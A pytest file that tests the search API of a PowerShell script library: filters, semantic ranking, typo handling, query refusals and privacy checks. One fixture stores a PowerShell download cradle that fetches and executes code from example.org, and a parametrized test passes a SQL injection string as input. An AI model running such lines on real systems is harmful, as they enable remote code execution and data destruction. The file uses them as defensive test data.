"""Searches over HTTP, on a real library."""

import json
from typing import Any

import pytest

from db.engine import transaction
from tests.web.conftest import Person, Store

SEARCH = "/api/scripts/search"
SPOOLER = "# Restarts the print spooler on every server\nGet-Service Spooler | Restart-Service\n"
BACKUP = "# Copies the database to a share\nCopy-Item C:\\data \\\\share\\backup\nGet-ADUser -Filter *\n"


def found(person: Person, q: str, **more: Any) -> list[str]:
    answer = person.get(SEARCH, query_string={"q": q, **more})
    assert answer.status_code == 200, answer.get_json()
    return [each["title"] for each in answer.get_json()["scripts"]]


@pytest.fixture
def library(ada: Person, store: Store) -> None:
    store(ada, SPOOLER, "a1.ps1", title="Spooler", tags="printing", is_public="true")
    store(ada, BACKUP, "a2.ps1", title="Backup", tags="data", is_public="true")


@pytest.fixture
def cradle(ada: Person, store: Store) -> int:
    text = "# Download of a remote part\niex (New-Object Net.WebClient).DownloadString('http://example.org/part')\n"
    script_id = store(ada, text, "part.ps1", tags="remote")
    with transaction(ada.engine) as connection:
        connection.exec_driver_sql(
            "UPDATE scripts SET category_id = (SELECT id FROM categories WHERE name LIKE 'Network%%') WHERE id = %s", (script_id,)
        )
    return script_id


@pytest.mark.usefixtures("library")
def test_a_sentence_finds_the_script_and_says_why(ada: Person) -> None:
    answer = ada.get(SEARCH, query_string={"q": "restarting the printing spooler"}).get_json()
    first = answer["scripts"][0]
    assert first["title"] == "Spooler"
    assert set(first["reason"]["terms"]) == {"restart", "print", "spooler"}
    assert first["reason"]["arms"] == ["keyword", "semantic"]
    marked = [each["text"][start:end] for each in first["highlights"] for start, end in each["ranges"]]
    assert {"Restarts", "print", "spooler"} <= set(marked)
    assert answer["engine"].startswith("words + hashed:")
    assert answer["missing"] is None


@pytest.mark.usefixtures("library")
def test_each_arm_alone(ada: Person) -> None:
    assert found(ada, "spooler", mode="keyword") == ["Spooler"]
    assert found(ada, "spooler", mode="semantic")[0] == "Spooler"


@pytest.mark.usefixtures("library")
@pytest.mark.parametrize(
    ("q", "titles"),
    [
        ("command:get-aduser", ["Backup"]),
        ("server -spooler", []),
        ('"print spooler"', ["Spooler"]),
        ('"spooler print"', []),
        ("tag:PRINTING", ["Spooler"]),
        ("author:ada tag:data", ["Backup"]),
        ("author:bob", []),
        ("touches:services", ["Spooler"]),
        ("touches:files", ["Backup"]),
    ],
)
def test_what_has_to_be_so_narrows(ada: Person, q: str, titles: list[str]) -> None:
    assert found(ada, q) == titles


FITS = (
    "command:invoke-expression",
    "module:Microsoft.PowerShell.Utility",
    "rule:PSAvoidUsingInvokeExpression",
    "rule:psavoidusinginvokeexpression",
    "touches:network",
    "attack:T1059",
    "attack:T1059.001",
    "tag:remote",
    "author:ADA",
    "category:network",
    "risk:>10",
    "risk:<=100",
    "-touches:registry risk:>10",
)
FITS_NOT = (
    "command:iex",  # an alias counts as what it stands for
    "module:ActiveDirectory",
    "rule:PSAvoidUsingWriteHost",
    "touches:registry",
    "attack:T1547",
    "tag:remote tag:other",
    "author:nobody",
    "category:Zoo",
    "risk:<10",
    "-rule:PSAvoidUsingInvokeExpression",
)


@pytest.mark.usefixtures("library")
def test_each_field(ada: Person, cradle: int) -> None:
    for q in (*FITS, *FITS_NOT):
        for words in ("", "download "):
            shown = [each["id"] for each in ada.get(SEARCH, query_string={"q": words + q}).get_json()["scripts"]]
            assert (cradle in shown) == (q in FITS), (q, shown)


@pytest.mark.usefixtures("library")
def test_typing_errors_are_forgiven_and_told(ada: Person) -> None:
    answer = ada.get(SEARCH, query_string={"q": "restart the spoolre"}).get_json()
    assert answer["scripts"][0]["title"] == "Spooler"
    assert "spooler" in answer["scripts"][0]["reason"]["terms"]
    assert answer["forgiven"] == [{"word": "spoolre", "term": "spooler"}]
    assert ada.get(SEARCH, query_string={"q": "restart the spooler"}).get_json()["forgiven"] == []


@pytest.mark.usefixtures("library")
@pytest.mark.parametrize(
    "q",
    [
        "'; DROP TABLE scripts; --",
        "\u202eعربى spooler",
        "🙂 x",
        "%(viewer)s %",
        "a" * 1500,
        "(((",
        "NULL",
        "nosuch:field spooler",
        "risk:>50 spooler",
        "spooler -",
        "a\u0301\u0327 \U0001f600",
    ],
)
@pytest.mark.parametrize("mode", ["hybrid", "keyword", "semantic"])
def test_strange_questions_are_answered(ada: Person, q: str, mode: str) -> None:
    assert ada.get(SEARCH, query_string={"q": q, "mode": mode}).status_code in (200, 422)


@pytest.mark.parametrize("q", ["", "the of and", "🙂", '"open', "risk:low", "a\0", "x " * 5000, "x" * 200_000])
def test_what_cannot_be_looked_for_is_refused(ada: Person, q: str) -> None:
    assert ada.get(SEARCH, query_string={"q": q}).status_code == 422


@pytest.mark.parametrize(
    ("q", "position"),
    [
        ('disk "open', 5), ("disk risk:low", 10), ("the of", 0), ("-tag:x", 0), ("a\0b", 1), ('disk command:""', 13), ("x " * 5000, 2000),
        ("disk touches:nowhere", 13),
    ],
)  # fmt: skip
def test_a_refusal_says_where(ada: Person, q: str, position: int) -> None:
    error = ada.get(SEARCH, query_string={"q": q}).get_json()
    assert error["error"] == "invalid_query"
    assert error["details"]["position"] == position


@pytest.mark.usefixtures("library")
@pytest.mark.parametrize("reason", [None, "The embedding service does not answer."])
def test_where_no_script_has_a_vector_words_rank_and_it_is_said(ada: Person, bob: Person, store: Store, reason: str | None) -> None:
    other = store(bob, SPOOLER + "# mine\n", "own.ps1", title="Other spooler")
    told = json.dumps({"code": "provider_away", "message": reason}) if reason else None
    with transaction(ada.engine) as connection:
        connection.exec_driver_sql("DELETE FROM script_embeddings WHERE script_id <> %s", (other,))
        connection.exec_driver_sql("UPDATE scripts SET embedding_unknown = %s WHERE id <> %s", (told, other))
    for mode in ("semantic", "hybrid"):
        answer = ada.get(SEARCH, query_string={"q": "spooler", "mode": mode}).get_json()
        assert [each["title"] for each in answer["scripts"]] == ["Spooler"]
        assert answer["engine"] == "words"
        assert answer["missing"]["code"] == "no_vectors"
        assert (reason or "ranked.") in answer["missing"]["message"]
        seen = bob.get(SEARCH, query_string={"q": "spooler", "mode": mode}).get_json()
        assert (seen["missing"], seen["scripts"][0]["title"]) == (None, "Other spooler")
        assert bob.get(SEARCH, query_string={"q": "spooler author:ada", "mode": mode}).get_json()["missing"]["code"] == "no_vectors"
        assert bob.get(SEARCH, query_string={"q": "spooler author:nobody", "mode": mode}).get_json()["missing"] is None


def test_private_scripts_stay_private(ada: Person, bob: Person, nobody: Person, store: Store) -> None:
    mine = store(ada, SPOOLER, "secret.ps1", title="Spooler")
    other = store(bob, SPOOLER + "# mine\n", "own.ps1", title="Spooler", is_public="true")
    for who in (bob, nobody):
        for q in ("restart spooler", "command:restart-service", "spooler author:ada", '"print spooler"'):
            for mode in ("hybrid", "keyword", "semantic"):
                assert mine not in [each["id"] for each in who.get(SEARCH, query_string={"q": q, "mode": mode}).get_json()["scripts"]]
        assert who.get(f"/api/scripts/{mine}/similar").status_code == 404
        assert who.get(f"/api/scripts/{other}/similar?threshold=0").get_json()["similarScripts"] == []
    assert [each["scriptId"] for each in ada.get(f"/api/scripts/{mine}/similar").get_json()["similarScripts"]] == [other]


def test_scores_tell_nothing_of_scripts_that_one_does_not_see(ada: Person, bob: Person, store: Store) -> None:
    store(bob, SPOOLER, "own.ps1")
    before = bob.get(SEARCH, query_string={"q": "spooler"}).get_json()
    store(ada, "# spooler spooler", "x.ps1")
    assert bob.get(SEARCH, query_string={"q": "spooler"}).get_json() == before


@pytest.mark.usefixtures("library")
def test_the_nearest_of_what_a_filter_leaves_are_found_and_say_so(ada: Person, store: Store) -> None:
    for number in range(12):
        store(ada, f"Copy-Item C:\\{number} D:\\\n", f"c{number}.ps1", title=f"Archive {number}", tags="archive")
    for mode in ("hybrid", "semantic"):
        scripts = ada.get(SEARCH, query_string={"q": "restart spooler tag:archive", "limit": 10, "mode": mode}).get_json()["scripts"]
        assert len(scripts) == 10
        assert all(each["title"].startswith("Archive") for each in scripts)
        assert all((each["reason"]["arms"] == ["filter"]) == (each["reason"]["similarity"] <= 0) for each in scripts)
        assert [each["score"] for each in scripts] == sorted((each["score"] for each in scripts), reverse=True)
        assert any(each["reason"]["arms"] == ["filter"] for each in scripts)
    assert not any(each["reason"]["arms"] == ["filter"] for each in ada.get(SEARCH, query_string={"q": "restart spooler"}).get_json()["scripts"])
    assert found(ada, "restart spooler tag:archive", mode="keyword") == []


def suggested(person: Person, q: str) -> list[str]:
    return [each["text"] for each in person.get("/api/scripts/suggest", query_string={"q": q}).get_json()["suggestions"]]


def test_what_is_typed_is_completed_from_what_the_caller_sees(ada: Person, bob: Person, store: Store) -> None:
    store(ada, SPOOLER, "a.ps1", title="Spooler watch")
    assert suggested(ada, "spoo") == ["Spooler watch"]
    assert suggested(ada, "find get-ser") == ["command:get-service"]
    assert suggested(ada, "touches:s") == ["touches:services"]
    assert [suggested(bob, q) for q in ("spoo", "find get-ser", "touches:s")] == [[], [], []]
    answer = ada.get("/api/scripts/suggest", query_string={"q": "x" * 100_000})
    assert (answer.status_code, answer.get_json()["message"]) == (422, "q: String should have at most 500 characters.")
    assert suggested(ada, "") == suggested(ada, "\u202e%'") == []
